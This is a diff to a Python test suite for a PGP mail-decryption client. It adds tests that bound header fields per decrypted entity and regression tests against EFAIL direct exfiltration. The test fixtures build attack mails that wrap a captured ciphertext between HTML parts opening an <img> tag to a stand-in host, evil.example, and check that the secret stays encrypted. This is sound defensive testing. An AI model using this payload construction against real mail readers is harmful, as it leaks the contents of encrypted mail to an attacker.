@@ -14,6 +14,7 @@ import base64
 import email
 import email.policy
 import os
+import re
 import subprocess
 
 import pytest
@@ -223,25 +224,120 @@ def test_other_fields_are_not_items(env):
     assert parse(r.stdout)["X-Pgpdecd-Status"] == "not-encrypted"
 
 
-def test_bounds_hold_for_the_mail_with_its_entities(env):
-    # 4 PGP/MIME pieces of 20,000 fields each: under max_header_fields
-    # (50,000) each, 80,000 together; the mail and its decrypted entities
-    # share one count, so the third and fourth piece fail LIMIT.
-    entity = b"Content-Type: text/plain\n" + b"X-F: v\n" * 20_000 + b"\nbody\n"
-    piece = (b"--OUT\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
-             b" boundary=\"ENC\"\n\n--ENC\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
-             b"--ENC\nContent-Type: application/octet-stream\n\n")
-    mail = (b"From: a@x\nTo: b@x\nSubject: s\nMIME-Version: 1.0\n"
-            b"Content-Type: multipart/mixed; boundary=\"OUT\"\n\n"
-            + b"".join(piece + env["encrypt"](entity) + b"\n--ENC--\n" for _ in range(4))
-            + b"--OUT--\n")
-    r = mime(env, mail)
-    assert r.returncode == 65 and r.stderr == b"pgpdecd-client: not decrypted: LIMIT\n", r.stderr
-    r = mime(env, mail, "--on-failure", "pass")
+def _fields_entity(n, body=b"body\n"):
+    return b"Content-Type: text/plain\n" + b"X-F: v\n" * n + b"\n" + body
+
+
+def test_an_entity_is_bounded_alone(env):
+    # The mail and its decrypted entity shared one count of fields (review
+    # of e7d51f7): a sender who pads a mail around someone's ciphertext
+    # learnt from accept or reject whether its plaintext has more than t
+    # fields.  45,000 fields outside, an entity of 10,000: each under
+    # max_header_fields (50,000); it was LIMIT.
+    outer = b"From: a@x\nTo: b@x\nSubject: ...\n" + b"X-Pad: v\n" * 45_000
+    r = mime(env, pgp_mime(env, _fields_entity(10_000), outer))
     assert r.returncode == 0, r.stderr
+    assert parse(r.stdout)["X-Pgpdecd-Status"] == "decrypted; pieces=1; decrypted=1; no-key=0; failed=0"
+    assert r.stdout.endswith(b"\n\nbody\n")
+    # The same outer mail, an entity over the bound alone: LIMIT, whatever
+    # is outside (the answer a sender gets says only "huge or not").
+    for pad in (0, 45_000):
+        outer = b"From: a@x\nTo: b@x\nSubject: ...\n" + b"X-Pad: v\n" * pad
+        r = mime(env, pgp_mime(env, _fields_entity(50_001), outer))
+        assert r.returncode == 65 and r.stderr == b"pgpdecd-client: not decrypted: LIMIT\n", (pad, r.stderr)
+
+
+def test_nested_entities_are_bounded_each(env):
+    # Encrypted inside encrypted, 40,000 fields in each of three entities:
+    # 120,000 together, each under the bound; the whole-body rule parses at
+    # most max_depth + 1 entities a mail, so the sum stays bounded.
+    inner = _fields_entity(40_000, b"innermost\n")
+    for _ in range(2):
+        enc = pgp_mime(env, inner, b"")
+        inner = b"X-F: v\n" * 40_000 + enc
+    r = mime(env, pgp_mime(env, inner))
+    assert r.returncode == 0, r.stderr
+    assert parse(r.stdout)["X-Pgpdecd-Status"] == "decrypted; pieces=3; decrypted=3; no-key=0; failed=0"
+    assert r.stdout.endswith(b"\n\ninnermost\n")
+
+
+EVIL_OPEN = b'<html><body><img src="http://evil.example/x?'
+EVIL_CLOSE = b'"></body></html>'
+SECRET = b"The board meets on Friday."
+
+
+def _between_html(middle: bytes, outer=b"From: a@x\nTo: b@x\nSubject: Invoice\n") -> bytes:
+    return (outer + b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"E\"\n\n"
+            b"--E\nContent-Type: text/html\n\n" + EVIL_OPEN + b"\n--E\n" + middle +
+            b"\n--E\nContent-Type: text/html\n\n" + EVIL_CLOSE + b"\n--E--\n")
+
+
+def _pgp_mime_part(env, entity: bytes) -> bytes:
+    return (b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
+            b" boundary=\"b1\"\n\n--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
+            b"--b1\nContent-Type: application/octet-stream\n\n" + env["encrypt"](entity) + b"\n--b1--")
+
+
+@pytest.mark.parametrize("layout", ["pgp-mime", "inline", "rfc822", "alternative"])
+def test_efail_ciphertext_next_to_a_senders_html_stays_encrypted(env, layout):
+    # EFAIL direct exfiltration (review of the mail path, 2026-12-03): a
+    # captured ciphertext, unchanged, mailed to its recipient between two
+    # text/html parts of the sender's came out as plaintext inside the
+    # sender's <img src="http://evil.example/x?...">.  Now only a piece that
+    # is its message's whole body is decrypted; this one is left for the
+    # mail reader, counted as embedded, and never sent to the daemon.
+    if layout == "pgp-mime":
+        middle = _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + SECRET + b"\n")
+    elif layout == "inline":
+        middle = b"Content-Type: text/plain\n\n" + env["encrypt"](SECRET + b"\n")
+    elif layout == "rfc822":   # the captured mail forwarded as an attachment
+        middle = (b"Content-Type: message/rfc822\n\nFrom: c@x\nSubject: fwd\nMIME-Version: 1.0\n"
+                  + _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + SECRET + b"\n"))
+    else:                      # the reader picks the HTML one
+        middle = (b"Content-Type: multipart/alternative; boundary=\"A\"\n\n--A\n"
+                  b"Content-Type: text/plain\n\n" + env["encrypt"](SECRET + b"\n") +
+                  b"\n--A\nContent-Type: text/html\n\n" + EVIL_OPEN + b"\n--A--")
+    mail = _between_html(middle)
+    for sock in (None, env["dir"] / "no-daemon.sock"):
+        # the daemon is not asked: with none listening the mail goes through alike
+        r = mime(env, mail, sock=sock)
+        assert r.returncode == 0, (sock, r.stderr)
+        assert SECRET not in r.stdout
+        m = parse(r.stdout)
+        assert m["X-Pgpdecd-Status"] == "embedded; pieces=0; decrypted=0; no-key=0; failed=0; embedded=1"
+        # the ciphertext as it came, and the sender's parts
+        blocks = re.findall(rb"-----BEGIN PGP MESSAGE-----\n.*?-----END PGP MESSAGE-----\n", mail, re.S)
+        assert len(blocks) == 1 and blocks[0] in r.stdout
+        assert r.stdout.count(EVIL_OPEN) == mail.count(EVIL_OPEN) and EVIL_CLOSE in r.stdout
+
+
+def test_efail_inside_a_decrypted_entity_stays_encrypted(env):
+    # A sender can encrypt to the recipient a whole entity of their own:
+    # the captured ciphertext between their HTML parts, inside it.  The
+    # outer piece is the mail's whole body and is decrypted; the inner one
+    # is not its entity's whole body and stays.
+    captured = _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + SECRET + b"\n")
+    entity = _between_html(captured, outer=b"")
+    r = mime(env, pgp_mime(env, entity))
+    assert r.returncode == 0, r.stderr
+    assert SECRET not in r.stdout and EVIL_OPEN in r.stdout
     assert parse(r.stdout)["X-Pgpdecd-Status"] == \
-        "partly-decrypted; pieces=4; decrypted=2; no-key=0; failed=2; status=LIMIT"
-    assert r.stdout.count(b"X-F: v\n") == 40_000 and r.stdout.count(b"BEGIN PGP MESSAGE") == 2
+        "partly-decrypted; pieces=1; decrypted=1; no-key=0; failed=0; embedded=1"
+
+
+def test_encrypted_attachment_between_html_is_an_attachment(env):
+    # Encrypted attachments are decrypted wherever they are, and always as
+    # an attachment: a sender's "Content-Disposition: inline" is not kept.
+    middle = (b"Content-Type: application/pgp-encrypted; name=\"x.asc\"\n"
+              b"Content-Disposition: inline; filename=\"x.asc\"\n\n" + env["encrypt"](SECRET + b"\n"))
+    r = mime(env, _between_html(middle))
+    assert r.returncode == 0, r.stderr
+    m = parse(r.stdout)
+    assert m["X-Pgpdecd-Status"] == "decrypted; pieces=1; decrypted=1; no-key=0; failed=0"
+    att = [p for p in m.walk() if p.get_filename() == "x"]
+    assert len(att) == 1 and att[0].get_content_type() == "application/octet-stream"
+    assert att[0].get_content_disposition() == "attachment"
+    assert att[0].get_payload(decode=True) == SECRET + b"\n"
 
 
 @pytest.mark.parametrize("plaintext", [b"", b"\0"], ids=["empty", "nul"])
